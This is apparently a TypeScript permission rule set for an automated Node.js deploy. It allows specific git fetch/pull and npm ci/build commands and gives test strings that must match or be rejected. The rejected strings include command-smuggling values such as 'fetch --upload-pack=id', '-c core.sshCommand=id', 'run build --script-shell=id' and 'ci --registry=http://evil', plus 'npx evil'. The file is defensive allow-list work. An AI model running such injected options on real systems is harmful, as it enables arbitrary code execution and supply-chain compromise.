import type { Pack } from './pack.ts';

const GIT = 'git <with -c core.hooksPath=/dev/null -c core.fsmonitor=false --no-pager> (-C {$root})';
const NPM = 'npm (--prefix {$root})';

/** One release of a Node.js application. Its own code runs: the lock file's install scripts and the build script. */
export const DEPLOY_NODE: Pack = {
  name: 'deploy-node',
  summary:
    'Fetches, fast-forwards, installs from the lock file and builds in the folders given; runs the code of the repository.',
  parameter: { name: 'root', of: 'folders', example: '/srv/app' },
  sets: [
    {
      commands: [
        'cd {$root}',
        `${GIT} fetch [--prune -p --tags] origin`,
        `${GIT} pull --ff-only [origin [main]]`,
        `${GIT} rev-parse [--short] HEAD`,
        `${GIT} status <with --ignore-submodules=dirty> [-s|--short -b|--branch]`,
        `${GIT} log [--oneline -<int:1..50>]`,
        `${NPM} ci [--omit=dev --no-audit --no-fund --ignore-scripts]`,
        `${NPM} run build`,
        '{node,npm} (-v|--version)',
      ],
    },
  ],
  match: [
    'cd /srv/app',
    'git -C /srv/app fetch --prune origin',
    'git -C /srv/app pull --ff-only',
    'git -C /srv/app pull --ff-only origin main',
    'git -C /srv/app rev-parse --short HEAD',
    'npm --prefix /srv/app ci --omit=dev',
    'npm --prefix=/srv/app run build',
    'node --version',
  ],
  not_match: [
    'cd /',
    'git pull',
    'git -C /srv/app pull',
    'git -C /srv/app pull --ff-only evil main',
    'git -C /srv/app fetch --upload-pack=id origin',
    'git -C /srv/app -c core.sshCommand=id fetch origin',
    'git -C /srv/app pull --rebase --ff-only',
    'git -C /srv/app/sub pull --ff-only',
    'git -C /srv/app reset --hard',
    'npm ci',
    'npm --prefix /tmp/evil ci',
    'npm --prefix /srv/app install evil',
    'npm --prefix /srv/app ci evil',
    'npm --prefix /srv/app run evil',
    'npm --prefix /srv/app run build -- --evil',
    'npm --prefix /srv/app run build --script-shell=id',
    'npm --prefix /srv/app ci --registry=http://evil',
    'npm --prefix /srv/app exec id',
    'npm --prefix /srv/app ci --prefix /tmp/evil',
    'npx evil',
    'node -v evil.js',
    'node evil.js',
  ],
};
